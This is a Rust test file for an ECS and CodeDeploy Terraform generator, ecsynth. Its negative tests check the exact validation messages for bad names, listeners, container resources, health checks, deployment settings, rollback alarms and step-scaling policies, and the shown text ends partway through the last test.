//! Validation: one negative test per rule with its exact message, many problems in one run,
//! and the CLI around it (exit codes, `--deny-warnings`, `--check`, untouched output).

mod support;

use std::fs;
use std::path::Path;

use ecsynth::model::{
    Backend, BlueGreen, BlueGreenController, CapacityProviderId, ClassicHealthCheck,
    ClassicListener, ClassicLoadBalancer, ClassicLoadBalancerId, ClassicTraffic, CodeDeploy,
    Compute, Container, Deployment, DeploymentConfig, Ec2Capacity, Exposure, Input, Listener,
    LoadBalancer, LoadBalancerId, Network, NetworkMode, PosixUser, Protocol, RollbackAlarms,
    Rolling, Route, RuleMatch, Service, Stack, Step, StepScaling, TargetHealthCheck, TaskSize,
    Traffic, Ulimit, Volume, VolumeSource,
};
use ecsynth::registry::Registry;
use support::{out_arg, run};

// ---------------------------------------------------------------------------------------------
// A valid stack, and ways to break it

/// An internal ALB `web` (HTTP 80, test 8080) in front of service `api` with container `app`,
/// deployed blue/green on Fargate.
///
/// A blue/green service without load balancer traffic is not tested: `BlueGreen` holds the
/// `Traffic` it switches, so such a service cannot be written.
fn stack_with(edit: impl FnOnce(&mut LoadBalancer, &mut Service)) -> Stack {
    let mut stack = Stack::new("shop", "eu-west-1");
    stack.backend(Backend::Local);
    let mut load_balancer = LoadBalancer::application("web", Listener::http(80))
        .internal()
        .test_listener(Listener::http(8080));
    let mut service = service(LoadBalancerId::default_for_tests());
    edit(&mut load_balancer, &mut service);
    let id = stack.add_load_balancer(load_balancer);
    if let Some(traffic) = service.traffic_mut() {
        traffic.load_balancer = id;
    }
    stack.add_service(service);
    stack
}

fn service(lb: LoadBalancerId) -> Service {
    let app = Container::new("app", "nginx:1.27").port(8080);
    let traffic = Traffic::listeners(lb, app.target(8080), TargetHealthCheck::http("/health"));
    Service::new(
        "api",
        TaskSize {
            cpu: 512,
            memory: 1024,
        },
    )
    .container(app)
    .blue_green(BlueGreen::new(traffic))
}

/// `service` deployed rolling behind the target group of the same traffic.
fn rolling(service: Service) -> Service {
    let traffic = service.traffic().cloned().expect("traffic");
    service.rolling(Rolling::behind(Exposure::LoadBalancer(traffic)))
}

fn messages(stack: &Stack) -> Vec<String> {
    stack.validate().iter().map(ToString::to_string).collect()
}

/// The diagnostics of a stack that differs from the valid one by `edit`.
fn problems(edit: impl FnOnce(&mut LoadBalancer, &mut Service)) -> Vec<String> {
    messages(&stack_with(edit))
}

fn blue_green(service: &mut Service) -> &mut BlueGreen {
    match &mut service.deployment {
        Deployment::BlueGreen(blue_green) => blue_green,
        Deployment::Rolling(_) => panic!("the test service deploys blue/green"),
    }
}

/// The CodeDeploy settings of the test service's blue/green deployment.
fn code_deploy(service: &mut Service) -> &mut CodeDeploy {
    match &mut blue_green(service).controller {
        BlueGreenController::CodeDeploy(settings) => settings,
        BlueGreenController::Ecs(_) => panic!("the test service deploys through CodeDeploy"),
    }
}

trait ForTests {
    fn default_for_tests() -> Self;
}

impl ForTests for LoadBalancerId {
    /// Replaced by the id `add_load_balancer` hands out.
    fn default_for_tests() -> LoadBalancerId {
        Stack::new("scratch", "eu-west-1")
            .add_load_balancer(LoadBalancer::application("x", Listener::http(80)))
    }
}

#[test]
fn the_base_stack_is_valid() {
    assert_eq!(problems(|_, _| {}), Vec::<String>::new());
}

#[test]
fn the_registered_stacks_have_no_diagnostics() {
    let registry = stacks::registry();
    for name in registry.names() {
        let stack = registry.get(name).expect("registered")();
        assert_eq!(messages(&stack), Vec::<String>::new(), "stack `{name}`");
    }
}

// ---------------------------------------------------------------------------------------------
// Names

#[test]
fn load_balancer_name_too_long() {
    assert_eq!(
        problems(|lb, _| lb.name = "storefront-public-entrypoint".into()),
        [
            "error: stack `shop` › load balancer `storefront-public-entrypoint` › `name`: load \
          balancer name `shop-storefront-public-entrypoint` (made from the stack name `shop` and \
          the load balancer name `storefront-public-entrypoint`) is 33 characters, AWS allows at \
          most 32; shorten the stack name `shop` or the load balancer name \
          `storefront-public-entrypoint` by 1 character"
        ]
    );
}

#[test]
fn load_balancer_name_characters_and_trailing_hyphen() {
    assert_eq!(
        problems(|lb, _| lb.name = "w.b-".into()),
        [
            "error: stack `shop` › load balancer `w.b-` › `name`: load balancer name `shop-w.b-` \
             (made from the stack name `shop` and the load balancer name `w.b-`) contains `.`; \
             load balancer names allow only A-Z, a-z, 0-9 and `-`; rename the load balancer name \
             `w.b-`",
            "error: stack `shop` › load balancer `w.b-` › `name`: load balancer name `shop-w.b-` \
             (made from the stack name `shop` and the load balancer name `w.b-`) ends with `-`; \
             load balancer names must end with a letter or digit; rename the load balancer name \
             `w.b-`",
        ]
    );
}

#[test]
fn load_balancer_name_must_not_start_with_internal() {
    let mut stack = stack_with(|_, _| {});
    stack.name = "internal".into();
    stack.cluster.name = "internal".into();
    assert_eq!(
        messages(&stack),
        [
            "error: stack `internal` › load balancer `web` › `name`: load balancer name \
          `internal-web` (made from the stack name `internal` and the load balancer name `web`) \
          starts with `internal-`, which AWS reserves for internal load balancers; rename the \
          stack name `internal`"
        ]
    );
}

#[test]
fn target_group_name_too_long_names_the_models_to_shorten() {
    assert_eq!(
        problems(|_, service| service.name = "checkout-service-v2-eu1".into()),
        [
            "error: stack `shop` › service `checkout-service-v2-eu1` › `name`: target group name \
          `shop-checkout-service-v2-eu1-green` (made from the stack name `shop` and the service \
          name `checkout-service-v2-eu1`) is 34 characters, AWS allows at most 32; shorten the \
          stack name `shop` or the service name `checkout-service-v2-eu1` by 2 characters"
        ]
    );
}

#[test]
fn iam_role_name_too_long() {
    let name = "a".repeat(50);
    assert_eq!(
        problems(|_, service| {
            service.name = name.clone();
            service.deployment = Deployment::rolling();
        }),
        [format!(
            "error: stack `shop` › service `{name}` › `name`: IAM role name \
             `shop-{name}-execution` (made from the stack name `shop` and the service name \
             `{name}`) is 65 characters, AWS allows at most 64; shorten the stack name `shop` or \
             the service name `{name}` by 1 character"
        )]
    );
}

#[test]
fn service_name_characters() {
    assert_eq!(
        problems(|_, service| service.name = "api.v2".into()),
        [
            "error: stack `shop` › service `api.v2` › `name`: ECS service name `api.v2` contains \
          `.`; ECS service names allow only A-Z, a-z, 0-9, `-` and `_`; rename the service name \
          `api.v2`"
        ]
    );
}

#[test]
fn service_name_must_make_a_terraform_label() {
    assert_eq!(
        problems(|_, service| service.name = "2api".into()),
        [
            "error: stack `shop` › service `2api` › `name`: service name `2api` starts with `2`; \
          it becomes the Terraform label `2api`, which must start with a letter or `_`"
        ]
    );
}

#[test]
fn cluster_name_characters_and_length() {
    let mut stack = stack_with(|_, _| {});
    stack.cluster.name = format!("shop cluster{}", "x".repeat(250));
    assert_eq!(
        messages(&stack),
        [
            format!(
                "error: stack `shop` › `cluster.name`: ECS cluster name `{}` is 262 characters, \
                 AWS allows at most 255; shorten the cluster name `{}` by 7 characters",
                stack.cluster.name, stack.cluster.name
            ),
            format!(
                "error: stack `shop` › `cluster.name`: ECS cluster name `{}` contains ` `; ECS \
                 cluster names allow only A-Z, a-z, 0-9, `-` and `_`; rename the cluster name `{}`",
                stack.cluster.name, stack.cluster.name
            ),
        ]
    );
}

#[test]
fn container_name_must_not_be_empty() {
    assert_eq!(
        problems(|_, service| {
            service.containers.push(Container::new("", "busybox"));
        }),
        ["error: stack `shop` › service `api` › container `` › `name`: container name is empty; \
          it needs 1 to 255 characters"]
    );
}

#[test]
fn duplicate_services_load_balancers_and_containers() {
    let mut stack = stack_with(|_, service| {
        service
            .containers
            .push(Container::new("app", "busybox").port(9090));
    });
    let second_lb =
        stack.add_load_balancer(LoadBalancer::network("web", Listener::tcp(80)).internal());
    stack.add_service(rolling(service(second_lb)).container(Container::new("sidecar", "busybox")));
    let mut underscore = service(second_lb).deployment(Deployment::rolling());
    underscore.name = "api_".into();
    let mut hyphen = underscore.clone();
    hyphen.name = "api-".into();
    stack.add_service(underscore).add_service(hyphen);
    assert_eq!(
        messages(&stack),
        [
            "error: stack `shop` › load balancer `web` › `name`: another load balancer of this \
             stack is also named `web`; load balancer names must be unique within a stack (they \
             name AWS resources and Terraform addresses)",
            "error: stack `shop` › service `api` › container `app` › `name`: another container of \
             this service is also named `app`; container names must be unique within a task",
            "error: stack `shop` › service `api` › `name`: another service of this stack is also \
             named `api`; service names must be unique within a stack (they name AWS resources \
             and Terraform addresses)",
            "error: stack `shop` › service `api-` › `name`: `api-` and service `api_` both become \
             the Terraform label `api_`; rename one of them",
        ]
    );
}

// ---------------------------------------------------------------------------------------------
// Load balancers and network

#[test]
fn listener_protocol_must_suit_the_load_balancer() {
    assert_eq!(
        problems(|lb, _| lb.prod_listener = Listener::tcp(80)),
        [
            "error: stack `shop` › load balancer `web` › `prod_listener.protocol`: TCP is not a \
          listener protocol of an application load balancer; allowed: HTTP, HTTPS"
        ]
    );
}

#[test]
fn udp_listeners_cannot_reach_tcp_target_groups() {
    assert_eq!(
        problems(|lb, service| {
            *lb = LoadBalancer::network("web", Listener::new(Protocol::Udp, 53)).internal();
            *health(service) = TargetHealthCheck::tcp();
        }),
        [
            "error: stack `shop` › load balancer `web` › `prod_listener.protocol`: UDP listeners \
          need UDP target groups, and the blue/green target groups are TCP; use TCP or TLS"
        ]
    );
}

#[test]
fn tls_listeners_need_a_certificate() {
    assert_eq!(
        problems(|lb, _| lb.test_listener = Some(Listener::new(Protocol::Https, 8443))),
        [
            "error: stack `shop` › load balancer `web` › `test_listener.certificate_arn`: HTTPS \
          listeners need an ACM certificate; use `Listener::https(port, certificate_arn)`"
        ]
    );
}

#[test]
fn listener_port_zero() {
    assert_eq!(
        problems(|lb, _| lb.prod_listener.port = 0),
        ["error: stack `shop` › load balancer `web` › `prod_listener.port`: 0 is not a listener \
          port; allowed: 1 to 65535"]
    );
}

#[test]
fn test_listener_needs_its_own_port() {
    assert_eq!(
        problems(|lb, _| lb.test_listener = Some(Listener::http(80))),
        ["error: stack `shop` › load balancer `web` › `test_listener.port`: 80 is also the prod \
          listener's port; CodeDeploy needs the test listener on a different port"]
    );
}

#[test]
fn internet_facing_without_tls_is_a_warning() {
    assert_eq!(
        problems(|lb, _| lb.scheme = ecsynth::model::Scheme::InternetFacing),
        [
            "warning: stack `shop` › load balancer `web` › `prod_listener.protocol`: \
          internet-facing load balancer serves HTTP without TLS; use \
          `Listener::https(port, certificate_arn)`, or make it `.internal()`"
        ]
    );
}

#[test]
fn one_subnet_warns_and_an_alb_needs_two() {
    let mut stack = stack_with(|_, _| {});
    stack.network = Network {
        subnet_ids: Input::Value(vec!["subnet-0a1b2c3d".into()]),
        load_balancer_subnet_ids: Some(Input::Value(vec!["subnet-0e5f6a7b".into()])),
        ..Network::from_variables()
    };
    assert_eq!(
        messages(&stack),
        [
            "error: stack `shop` › `network.load_balancer_subnet_ids`: one subnet (`subnet-0e5f6a7b`), \
             but application load balancer `web` needs subnets in at least two Availability Zones",
            "warning: stack `shop` › `network.subnet_ids`: one subnet (`subnet-0a1b2c3d`) puts every \
             task in one Availability Zone; give subnets in at least two zones",
        ]
    );
}

// ---------------------------------------------------------------------------------------------
// Task and containers

#[test]
fn a_task_needs_a_container() {
    assert_eq!(
        problems(|_, service| {
            service.containers.clear();
            service.deployment = Deployment::rolling();
        }),
        [
            "error: stack `shop` › service `api` › `containers`: a task needs at least one \
          container; add one with `.container(Container::new(name, image))`"
        ]
    );
}

#[test]
fn a_task_needs_an_essential_container() {
    assert_eq!(
        problems(|_, service| service.containers[0].essential = false),
        [
            "error: stack `shop` › service `api` › `containers`: no container is essential; ECS \
          needs at least one, whose exit stops the task"
        ]
    );
}

#[test]
fn container_image_must_not_be_empty() {
    assert_eq!(
        problems(|_, service| service.containers[0].image = " ".into()),
        [
            "error: stack `shop` › service `api` › container `app` › `image`: the image is empty; \
          give a repository and tag, e.g. `nginx:1.27`"
        ]
    );
}

#[test]
fn environment_names_must_not_be_empty() {
    assert_eq!(
        problems(|_, service| {
            service.containers[0].environment.insert(String::new(), "x".into());
        }),
        ["error: stack `shop` › service `api` › container `app` › `environment`: an environment \
          variable has an empty name"]
    );
}

#[test]
fn secrets_come_from_ssm_or_secrets_manager() {
    assert_eq!(
        problems(|_, service| {
            service.containers[0] = service.containers[0]
                .clone()
                .secret("DB_URL", "arn:aws:ssm:eu-west-1:123456789012:parameter/db")
                .secret("TOKEN", "/plain/parameter/name");
        }),
        [
            "error: stack `shop` › service `api` › container `app` › `secrets.TOKEN`: \
          `/plain/parameter/name` is not an SSM parameter or Secrets Manager ARN; it must start \
          with `arn:aws:ssm:` or `arn:aws:secretsmanager:` (the execution role is granted read \
          access by these prefixes)"
        ]
    );
}

#[test]
fn secret_names_must_not_be_empty() {
    assert_eq!(
        problems(|_, service| {
            service.containers[0] = service.containers[0].clone().secret(
                "",
                "arn:aws:secretsmanager:eu-west-1:123456789012:secret:db",
            );
        }),
        [
            "error: stack `shop` › service `api` › container `app` › `secrets`: the secret from \
          `arn:aws:secretsmanager:eu-west-1:123456789012:secret:db` has an empty variable name"
        ]
    );
}

#[test]
fn container_cpu_must_fit_the_task() {
    assert_eq!(
        problems(|_, service| {
            service.containers[0].cpu = 384;
            service.containers.push(
                Container::new("sidecar", "busybox")
                    .cpu_units(256)
                    .memory_reservation(64),
            );
        }),
        [
            "error: stack `shop` › service `api` › `containers.cpu`: containers reserve 640 CPU \
          units (`app` 384, `sidecar` 256), more than the task's 512; lower the reservations or \
          raise `task_size.cpu`"
        ]
    );
}

#[test]
fn container_memory_must_fit_the_task() {
    assert_eq!(
        problems(|_, service| {
            service.containers[0].memory = Some(768);
            service.containers.push(
                Container::new("sidecar", "busybox")
                    .cpu_units(0)
                    .memory_reservation(512),
            );
        }),
        [
            "error: stack `shop` › service `api` › `containers.memory_reservation`: containers \
          reserve 1280 MiB (`app` 768 MiB, `sidecar` 512 MiB), more than the task's 1024 MiB; \
          lower the reservations or raise `task_size.memory`"
        ]
    );
}

#[test]
fn container_hard_limit_must_fit_the_task() {
    assert_eq!(
        problems(|_, service| {
            service.containers[0].memory = Some(2048);
            service.containers[0].memory_reservation = Some(256);
        }),
        [
            "error: stack `shop` › service `api` › container `app` › `memory`: 2048 MiB is more \
          than the task's 1024 MiB; lower it or raise `task_size.memory`"
        ]
    );
}

#[test]
fn memory_reservation_must_not_exceed_the_hard_limit() {
    assert_eq!(
        problems(|_, service| {
            service.containers[0].memory = Some(256);
            service.containers[0].memory_reservation = Some(512);
        }),
        ["error: stack `shop` › service `api` › container `app` › `memory_reservation`: 512 MiB \
          is more than the container's hard limit `memory` (256 MiB); the reservation must not \
          exceed the limit"]
    );
}

#[test]
fn container_port_zero() {
    assert_eq!(
        problems(|_, service| service.containers[0].ports.push(
            ecsynth::model::Port {
                container_port: 0,
                protocol: ecsynth::model::PortProtocol::Tcp,
            }
        )),
        ["error: stack `shop` › service `api` › container `app` › `ports`: 0 is not a container \
          port; allowed: 1 to 65535"]
    );
}

#[test]
fn ports_are_bound_once_per_task() {
    assert_eq!(
        problems(|_, service| {
            service
                .containers
                .push(Container::new("sidecar", "envoy").port(9901).port(8080));
            service.containers[0] = service.containers[0].clone().port(8080);
        }),
        [
            "error: stack `shop` › service `api` › container `app` › `ports`: 8080/tcp is listed \
             twice; list each port once",
            "error: stack `shop` › service `api` › container `sidecar` › `ports`: 8080/tcp is \
             also a port of container `app`; containers of a task share its network, so each \
             port can be bound once",
        ]
    );
}

#[test]
fn log_retention_must_be_a_cloudwatch_period() {
    assert_eq!(
        problems(|_, service| service.log_retention_days = 10),
        [
            "error: stack `shop` › service `api` › `log_retention_days`: 10 is not a CloudWatch \
          Logs retention period; allowed: 0, 1, 3, 5, 7, 14, 30, 60, 90, 120, 150, 180, 365, \
          400, 545, 731, 1096, 1827, 2192, 2557, 2922, 3288, 3653 (0 keeps logs forever)"
        ]
    );
    assert_eq!(
        problems(|_, service| service.log_retention_days = 0),
        Vec::<String>::new()
    );
}

// ---------------------------------------------------------------------------------------------
// Traffic and health checks

fn health(service: &mut Service) -> &mut TargetHealthCheck {
    &mut service.traffic_mut().expect("traffic").health_check
}

#[test]
fn traffic_needs_a_container_of_the_service_and_one_of_its_ports() {
    assert_eq!(
        problems(|_, service| {
            // A target made from a container that is not one of this service's.
            service.traffic_mut().expect("traffic").target =
                Container::new("web", "x").port(8080).target(8080);
        }),
        [
            "error: stack `shop` › service `api` › `traffic.target`: container `web` is not a \
          container of this service; containers: `app`"
        ]
    );
    assert_eq!(
        problems(|_, service| {
            let target = service.containers[0].target(80);
            service.traffic_mut().expect("traffic").target = target;
        }),
        ["error: stack `shop` › service `api` › `traffic.target`: 80 is not a port of container \
          `app`; its ports: 8080"]
    );
}

#[test]
fn health_check_thresholds() {
    assert_eq!(
        problems(|_, service| {
            health(service).healthy_threshold = 1;
            health(service).unhealthy_threshold = 11;
        }),
        [
            "error: stack `shop` › service `api` › `traffic.health_check.healthy_threshold`: 1 \
             is outside the allowed range 2 to 10 checks",
            "error: stack `shop` › service `api` › `traffic.health_check.unhealthy_threshold`: 11 \
             is outside the allowed range 2 to 10 checks",
        ]
    );
}

#[test]
fn health_check_interval_and_timeout() {
    assert_eq!(
        problems(|_, service| {
            health(service).interval = 301;
            health(service).timeout = 1;
        }),
        [
            "error: stack `shop` › service `api` › `traffic.health_check.interval`: 301 s is \
             outside the allowed range 5 to 300 seconds",
            "error: stack `shop` › service `api` › `traffic.health_check.timeout`: 1 s is outside \
             the allowed range 2 to 120 seconds",
        ]
    );
    assert_eq!(
        problems(|_, service| health(service).timeout = 15),
        [
            "error: stack `shop` › service `api` › `traffic.health_check.timeout`: 15 s is not \
          shorter than the interval (15 s); a check must time out before the next one starts"
        ]
    );
}

#[test]
fn health_check_paths() {
    assert_eq!(
        problems(|_, service| health(service).path = Some("health".into())),
        [
            "error: stack `shop` › service `api` › `traffic.health_check.path`: `health` does not \
          start with `/`; e.g. `/health`"
        ]
    );
    assert_eq!(
        problems(|_, service| health(service).path = None),
        ["error: stack `shop` › service `api` › `traffic.health_check.path`: an application load \
          balancer checks targets over HTTP and needs a path; use \
          `TargetHealthCheck::http(\"/health\")`"]
    );
}

#[test]
fn health_check_matchers() {
    assert_eq!(
        problems(|_, service| health(service).matcher = "200-".into()),
        ["error: stack `shop` › service `api` › `traffic.health_check.matcher`: `200-` is not a \
          list of HTTP codes; write one code (`200`), several (`200,302`) or a range (`200-399`)"]
    );
    assert_eq!(
        problems(|_, service| health(service).matcher = "200,503".into()),
        [
            "error: stack `shop` › service `api` › `traffic.health_check.matcher`: `200,503` \
          includes 503; an application load balancer accepts codes 200 to 499"
        ]
    );
    assert_eq!(
        problems(|lb, service| {
            *lb = LoadBalancer::network("web", Listener::tcp(80)).internal();
            health(service).matcher = "200-599".into();
        }),
        Vec::<String>::new(),
        "a network load balancer accepts 5xx codes"
    );
}

// ---------------------------------------------------------------------------------------------
// CodeDeploy

#[test]
fn network_load_balancers_shift_all_at_once() {
    assert_eq!(
        problems(|lb, service| {
            *lb = LoadBalancer::network("web", Listener::tcp(80)).internal();
            code_deploy(service).config = DeploymentConfig::Canary10Percent5Minutes;
        }),
        [
            "error: stack `shop` › service `api` › `deployment.config`: \
          `CodeDeployDefault.ECSCanary10Percent5Minutes` shifts traffic gradually, but \
          CodeDeploy supports only `CodeDeployDefault.ECSAllAtOnce` behind a network load \
          balancer (`web`); use `DeploymentConfig::AllAtOnce` or an application load balancer"
        ]
    );
}

#[test]
fn custom_deployment_config_names() {
    assert_eq!(
        problems(|_, service| code_deploy(service).config = DeploymentConfig::Custom(String::new())),
        [
            "error: stack `shop` › service `api` › `deployment.config`: the custom deployment \
          configuration name is empty; give its name (1 to 100 characters)"
        ]
    );
    assert_eq!(
        problems(|_, service| {
            code_deploy(service).config =
                DeploymentConfig::Custom("CodeDeployDefault.OneAtATime".into());
        }),
        [
            "error: stack `shop` › service `api` › `deployment.config`: \
          `CodeDeployDefault.OneAtATime` is not a predefined ECS configuration, and \
          `CodeDeployDefault.` is reserved for those; predefined ECS configurations: \
          `CodeDeployDefault.ECSAllAtOnce`, `CodeDeployDefault.ECSLinear10PercentEvery1Minutes`, \
          `CodeDeployDefault.ECSLinear10PercentEvery3Minutes`, \
          `CodeDeployDefault.ECSCanary10Percent5Minutes`, \
          `CodeDeployDefault.ECSCanary10Percent15Minutes`"
        ]
    );
    let long = "c".repeat(101);
    assert_eq!(
        problems(|_, service| code_deploy(service).config = DeploymentConfig::Custom(long.clone())),
        [format!(
            "error: stack `shop` › service `api` › `deployment.config`: custom deployment \
             configuration name `{long}` is 101 characters; CodeDeploy allows at most 100"
        )]
    );
    assert_eq!(
        problems(|_, service| {
            code_deploy(service).config = DeploymentConfig::Custom("Shop-Linear20".into());
        }),
        Vec::<String>::new()
    );
}

/// CodeDeploy's `DeploymentConfigName` has the pattern `[A-Za-z0-9+=,.@_-]*` (botocore 1.44.8
/// `codedeploy/2014-10-06/service-2.json`); CreateDeploymentGroup refuses other characters.
#[test]
fn custom_deployment_config_names_use_codedeploy_characters() {
    assert_eq!(
        problems(|_, service| {
            code_deploy(service).config = DeploymentConfig::Custom("shop canary\n".into());
        }),
        [
            "error: stack `shop` › service `api` › `deployment.config`: custom deployment \
          configuration name `shop canary\\n` contains ` `; CodeDeploy allows A-Z, a-z, 0-9 and \
          `+=,.@_-`"
        ]
    );
    assert_eq!(
        problems(|_, service| {
            code_deploy(service).config = DeploymentConfig::Custom("Shop+Canary=10,@x_y.z".into());
        }),
        Vec::<String>::new()
    );
}

#[test]
fn deployment_waits() {
    assert_eq!(
        problems(|_, service| code_deploy(service).termination_wait_minutes = 2881),
        [
            "error: stack `shop` › service `api` › `deployment.termination_wait_minutes`: 2881 is \
          more than CodeDeploy's 2880 minutes (2 days); allowed: 0 to 2880"
        ]
    );
    assert_eq!(
        problems(|_, service| code_deploy(service).manual_approval_minutes = Some(0)),
        [
            "error: stack `shop` › service `api` › `deployment.manual_approval_minutes`: 0 is \
          outside 1 to 2880 minutes (2 days); leave out `manual_approval_minutes` to shift \
          traffic without waiting"
        ]
    );
}

#[test]
fn no_auto_rollback_is_a_warning() {
    assert_eq!(
        problems(|_, service| code_deploy(service).auto_rollback = false),
        [
            "warning: stack `shop` › service `api` › `deployment.auto_rollback`: off: a failed \
          deployment leaves traffic where it stopped; turn it on unless something else rolls \
          back"
        ]
    );
}

/// CodeDeploy `AutoRollbackConfiguration` (API reference): without `DEPLOYMENT_STOP_ON_ALARM`
/// an alarm of `AlarmConfiguration` stops a deployment but leaves it where it stopped; for a
/// linear or canary configuration that is part of the traffic on the bad release.
#[test]
fn gradual_deployment_without_rollback_on_alarms_is_refused_unless_opted_out_by_name() {
    assert_eq!(
        problems(|_, service| {
            let settings = code_deploy(service);
            settings.config = DeploymentConfig::Canary10Percent5Minutes;
            settings.auto_rollback = false;
        }),
        [
            "error: stack `shop` › service `api` › `deployment.auto_rollback`: off with \
             `CodeDeployDefault.ECSCanary10Percent5Minutes`, which shifts traffic in steps: a \
             rollback alarm would stop a bad deployment with part of the traffic left on it; \
             turn `auto_rollback` on, or opt out of rollback alarms by name with \
             `without_rollback_alarms()`"
        ]
    );
    assert_eq!(
        problems(|_, service| {
            let settings = code_deploy(service);
            settings.config = DeploymentConfig::Linear10PercentEvery3Minutes;
            settings.auto_rollback = false;
            blue_green(service).rollback_alarms = None;
        }),
        [
            "warning: stack `shop` › service `api` › `deployment.auto_rollback`: off: a failed \
          deployment leaves traffic where it stopped; turn it on unless something else rolls \
          back"
        ]
    );
}

/// CloudWatch metrics for your Application / Network Load Balancer (ELB user guides):
/// `TargetResponseTime` is published by application load balancers only; PutMetricAlarm
/// (CloudWatch API reference): evaluation periods × period at most one day.
#[test]
fn rollback_alarm_settings_are_checked() {
    let nlb = |lb: &mut LoadBalancer| {
        *lb = LoadBalancer::network("web", Listener::tcp(80))
            .internal()
            .test_listener(Listener::tcp(8080));
    };
    assert_eq!(
        problems(|lb, service| {
            nlb(lb);
            blue_green(service).rollback_alarms =
                Some(RollbackAlarms::default().response_time_p99(0.0, 0));
        }),
        [
            "error: stack `shop` › service `api` › \
             `deployment.rollback_alarms.latency_minutes`: 0 is outside 1 to 1440 minutes; \
             CloudWatch evaluates an alarm over at most one day",
            "error: stack `shop` › service `api` › \
             `deployment.rollback_alarms.response_time_p99_seconds`: 0 is not a positive number \
             of seconds",
            "error: stack `shop` › service `api` › \
             `deployment.rollback_alarms.response_time_p99_seconds`: set, but a network load \
             balancer publishes no `TargetResponseTime` (application load balancers only); \
             remove it",
        ]
    );
    assert_eq!(
        problems(|_, service| {
            let alarms = RollbackAlarms::default()
                .errors_per_minute(0)
                .unhealthy_minutes(1441);
            *service = rolling(service.clone());
            if let Deployment::Rolling(rolling) = &mut service.deployment {
                rolling.rollback_alarms = Some(alarms);
            }
        }),
        [
            "error: stack `shop` › service `api` › \
             `deployment.rollback_alarms.unhealthy_minutes`: 1441 is outside 1 to 1440 minutes; \
             CloudWatch evaluates an alarm over at most one day",
            "error: stack `shop` › service `api` › \
             `deployment.rollback_alarms.errors_per_minute`: 0 fires on every minute, with or \
             without errors; allowed: 1 or more",
        ]
    );
}

// ---------------------------------------------------------------------------------------------
// Scaling

fn scaled(edit: impl FnOnce(&mut StepScaling)) -> Vec<String> {
    problems(|_, service| {
        let mut scaling = StepScaling::cpu(2..=4);
        edit(&mut scaling);
        service.scaling = Some(scaling);
    })
}

#[test]
fn scaling_bounds() {
    assert_eq!(
        scaled(|s| {
            s.min_tasks = 0;
            s.max_tasks = 0;
        }),
        ["error: stack `shop` › service `api` › `scaling.max_tasks`: 0 tasks at most never runs \
          the service; allow at least 1"]
    );
    assert_eq!(
        scaled(|s| s.min_tasks = 5),
        ["error: stack `shop` › service `api` › `scaling.min_tasks`: 5 is more than `max_tasks` \
          (4); the minimum must not exceed the maximum"]
    );
}

#[test]
fn desired_count_outside_the_scaling_range_is_a_warning() {
    assert_eq!(
        problems(|_, service| {
            service.scaling = Some(StepScaling::cpu(3..=6));
            service.desired_count = 2;
        }),
        [
            "warning: stack `shop` › service `api` › `desired_count`: 2 is outside the scaling \
          range 3 to 6; the autoscaler moves it into the range right after the first apply"
        ]
    );
}

#[test]
fn scaling_thresholds() {
    assert_eq!(
        scaled(|s| *s = s.clone().scale_in_below(80.0).scale_out_above(120.0)),
        [
            "error: stack `shop` › service `api` › `scaling.high_cpu_percent`: 120 is not a CPU \
          percentage; allowed: 0 to 100"
        ]
    );
    assert_eq!(
        scaled(|s| *s = s.clone().scale_in_below(70.0).scale_out_above(70.0)),
        [
            "error: stack `shop` › service `api` › `scaling.low_cpu_percent`: 70 is not below \
          `high_cpu_percent` (70); the scale-in threshold must be lower than the scale-out \
          threshold"
        ]
    );
}

/// NaN and infinity reached the Application Auto Scaling API as the strings `"NaN"` and
/// `"inf"` (PutScalingPolicy, StepAdjustment.MetricIntervalLowerBound is a Double).
#[test]
fn floats_are_finite_numbers() {
    assert_eq!(
        scaled(|s| {
            s.scale_out = vec![Step::adjustment(1).lower_bound(f64::NAN)];
            s.scale_in = vec![Step::adjustment(-1)
                .lower_bound(f64::NEG_INFINITY)
                .upper_bound(0.0)];
        }),
        [
            "error: stack `shop` › service `api` › `scaling.scale_out[0].lower`: NaN is not a \
             number Application Auto Scaling takes; a bound is a finite number, and a side \
             without one is unbounded",
            "error: stack `shop` › service `api` › `scaling.scale_in[0].lower`: -inf is not a \
             number Application Auto Scaling takes; a bound is a finite number, and a side \
             without one is unbounded",
        ]
    );
    for percent in [f64::NAN, f64::INFINITY] {
        assert_eq!(
            scaled(|s| *s = s.clone().scale_out_above(percent)),
            [format!(
                "error: stack `shop` › service `api` › `scaling.high_cpu_percent`: {percent} is \
                 not a CPU percentage; allowed: 0 to 100"
            )]
        );
    }
}

#[test]
fn alarm_periods() {
    assert_eq!(
        scaled(|s| s.period_seconds = 30),
        [
            "error: stack `shop` › service `api` › `scaling.period_seconds`: 30 is not a multiple \
          of 60; ECS CPU metrics are per minute, so alarm periods are 60, 120, 180, …"
        ]
    );
    assert_eq!(
        scaled(|s| s.evaluation_periods = 0),
        [
            "error: stack `shop` › service `api` › `scaling.evaluation_periods`: 0 periods never \
          raise the alarm; use at least 1"
        ]
    );
}

#[test]
fn step_adjustments_point_the_right_way() {
    assert_eq!(
        scaled(|s| {
            s.scale_out = vec![Step::adjustment(-1).lower_bound(0.0)];
            s.scale_in = vec![Step::adjustment(0).upper_bound(0.0)];
        }),
        [
            "error: stack `shop` › service `api` › `scaling.scale_out[0].adjustment`: -1 does \
             not add tasks; scaling.scale_out adjustments must be positive",
            "error: stack `shop` › service `api` › `scaling.scale_in[0].adjustment`: 0 does not \
             remove tasks; scaling.scale_in adjustments must be negative",
        ]
    );
}

#[test]
fn steps_need_a_bound_and_at_most_one_open_end_per_side() {
    assert_eq!(
        scaled(|s| s.scale_out = vec![Step::adjustment(1)]),
        [
            "error: stack `shop` › service `api` › `scaling.scale_out[0]`: both bounds are \
          unbounded; give a lower or an upper bound"
        ]
    );
    assert_eq!(
        scaled(|s| {
            s.scale_out = vec![
                Step::adjustment(1).lower_bound(0.0),
                Step::adjustment(3).lower_bound(20.0),
            ];
        }),
        [
            "error: stack `shop` › service `api` › `scaling.scale_out`: 2 steps have no upper \
             bound; at most one may",
        ]
    );
    assert_eq!(
        scaled(|s| s.scale_in = vec![Step::adjustment(-1).lower_bound(0.0).upper_bound(-10.0)]),
        [
            "error: stack `shop` › service `api` › `scaling.scale_in[0]`: lower bound 0 is not \
          below upper bound -10"
        ]
    );
    assert_eq!(
        scaled(|s| s.scale_in.clear()),
        [
            "error: stack `shop` › service `api` › `scaling.scale_in`: no steps; a step scaling \
          policy needs at least one"
        ]
    );
}

#[test]
fn steps_must_not_leave_gaps_or_overlap() {
    assert_eq!(
        scaled(|s| {
            s.scale_out = vec![
                Step::adjustment(1).lower_bound(0.0).upper_bound(10.0),
